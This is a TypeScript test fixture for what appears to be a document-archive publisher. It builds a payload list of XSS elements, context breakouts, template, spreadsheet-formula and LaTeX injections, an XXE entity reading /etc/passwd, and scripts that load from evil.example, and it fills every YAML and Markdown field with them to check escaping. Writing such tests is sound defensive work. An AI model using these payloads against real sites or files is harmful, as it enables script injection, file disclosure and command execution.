import { textFile } from './folder.ts';

/** Stands in every piece of markup below: where an element or attribute came of one, it has this name. */
export const MARK = 'data-ran';

/** Elements that run, ask, lead or draw, as they would be written anywhere. */
const ELEMENTS = [
  `<script ${MARK}>alert(1)</script>`,
  `<ScRiPt ${MARK} src=//evil.example/a.js></sCrIpT>`,
  `<script ${MARK}\n>alert(1)</script\n>`,
  `<img ${MARK} src=x onerror=alert(1)>`,
  `<img/${MARK}/src="x"/onerror=alert(1)//`,
  `<svg ${MARK} onload=alert(1)>`,
  `<svg><script ${MARK}>alert(1)</script></svg>`,
  `<svg><animate ${MARK} onbegin=alert(1) attributeName=x dur=1s>`,
  `<math ${MARK}><mtext><img src onerror=alert(1)></mtext></math>`,
  `<iframe ${MARK} src="javascript:alert(1)"></iframe>`,
  `<iframe ${MARK} srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object ${MARK} data="data:text/html,<script>alert(1)</script>"></object>`,
  `<embed ${MARK} src="//evil.example/a.swf">`,
  `<base ${MARK} href="//evil.example/">`,
  `<meta ${MARK} http-equiv=refresh content="0;url=//evil.example/">`,
  `<link ${MARK} rel=stylesheet href="//evil.example/a.css">`,
  `<style ${MARK}>@import "//evil.example/a.css"</style>`,
  `<form ${MARK} action="//evil.example/"><button>Search</button></form>`,
  `<input ${MARK} autofocus onfocus=alert(1)>`,
  `<details ${MARK} open ontoggle=alert(1)>`,
  `<video ${MARK}><source onerror=alert(1)></video>`,
  `<a ${MARK} href="javascript:alert(1)">click</a>`,
  `<a ${MARK} href="jav&#x09;ascript:alert(1)">click</a>`,
  `<p ${MARK} style="position:fixed;inset:0">`,
  `<template ${MARK}><script>alert(1)</script></template>`,
  `<noscript><p ${MARK} title="</noscript><img src=x onerror=alert(1)>">`,
  `<plaintext ${MARK}>`,
  `<xmp ${MARK}>`,
  `<?xml-stylesheet ${MARK}="1" href="//evil.example/a.xsl"?>`,
  `<!ENTITY x SYSTEM "file:///etc/passwd"> &x; <a ${MARK}="&x;">`,
];
/** What each context of a page, file or script would be left by. */
const WAYS_OUT = [
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</script>',
  '</textarea>',
  '</style>',
  '-->',
  ']]>',
  '<!--',
  '<![CDATA[',
];
const WITHIN = [
  `" ${MARK}="1" onmouseover="alert(1)`,
  `' ${MARK}='1' onfocus='alert(1)' autofocus='`,
  `\` ${MARK}=1 onclick=alert(1) \``,
  '"};alert(1);//',
  "';alert(1)//",
  '\\";alert(1);//',
  '</script><!-- <script>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '//evil.example/',
  '{{constructor.constructor("alert(1)")()}}',
  `$\{alert(1)}`,
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '＜script＞alert(1)＜/script＞',
  '\u00ABscript\u00BBalert(1)',
  '=HYPERLINK("//evil.example/","click")',
  '@SUM(1+1)*cmd|"/c calc"!A0',
  '+1+1',
  '-2+3',
  '}, title = {other}, note = {\\input{/etc/passwd}',
  '(a) /JavaScript << /S /JavaScript /JS (app.alert(1)) >>',
];

/** Words that somebody wrote hoping that a program takes them for more than words. */
export const PAYLOADS: readonly string[] = [
  ...ELEMENTS.map((element) => element.replaceAll('\n', ' ')),
  ...WAYS_OUT.map((way) => `${way}<b ${MARK}>bold</b>`),
  ...WITHIN,
];

/** As words of a text: Markdown has no sign among them. */
const asWords = (payload: string): string => payload.replace(/[!-/:-@[-`{-~]/gu, '\\$&');

/** All of them at once, where a field is one line. */
export const ALL = PAYLOADS.join(' ');

const paragraphs = PAYLOADS.map(
  (payload, at) =>
    `## Article ${at + 1}. ${asWords(payload)}\n\nWords ${asWords(payload)} of the Parties.[^${at + 1}]\n\n[^${at + 1}]: Note ${asWords(payload)} ends.`,
);

const all = JSON.stringify(ALL);
const work = `type: agreement
nature: treaty
title: { eng: ${all}, rus: ${all}, hye: ${all}, aze: ${all} }
short_title: { eng: ${JSON.stringify(PAYLOADS.slice(0, 9).join(' '))} }
date: 1999-09-09
place: ${all}
participants: [{ name: ${all}, code: XT, role: party }]
stages: [{ stage: signed, date: 1999-09-09, source: ${all} }]
acts: [{ name: { eng: ${all} }, office: { eng: ${all} }, for: XT, act: signed, date: 1999-09-09, source: ${all} }]
official_copies: [{ publisher: ${all}, site: ${all}, url: null }]
variants_not_held: [{ key: eng-crown, note: ${all} }]
abstract: { eng: ${all} }
note: { eng: ${all} }
`;
const front = `publisher: ${all}
attestations:
  - { source: ${all}, publisher: ${all}, class: press, url: null, checked: 2026-01-05, exact: [title], note: ${all} }
differs: [{ clause: art_1, reads: ${all}, source: ${all} }]
note: ${all}
`;
const text = textFile(paragraphs.join('\n\n'), front).replace(
  /^title: .*$/mu,
  `title: ${all.replaceAll('$', '$$$$')}`,
);

/** An archive of which everything that anybody can write is hostile. */
export const HOSTILE_ARCHIVE: Readonly<Record<string, string>> = {
  'archive.yaml': `name: { eng: ${all} }\ndescription: { eng: ${all} }\nrun_by: { name: ${all}, since: 2026-11-22 }\ncontacts: [{ channel: ${all}, address: ${all}, reveals: ${all} }]\n`,
  'hostile-words/work.yaml': work,
  'hostile-words/eng@1999-09-09.md': text,
  'hostile-words/rus@1999-09-09.md': text.replaceAll('## Article', '## Статья'),
};
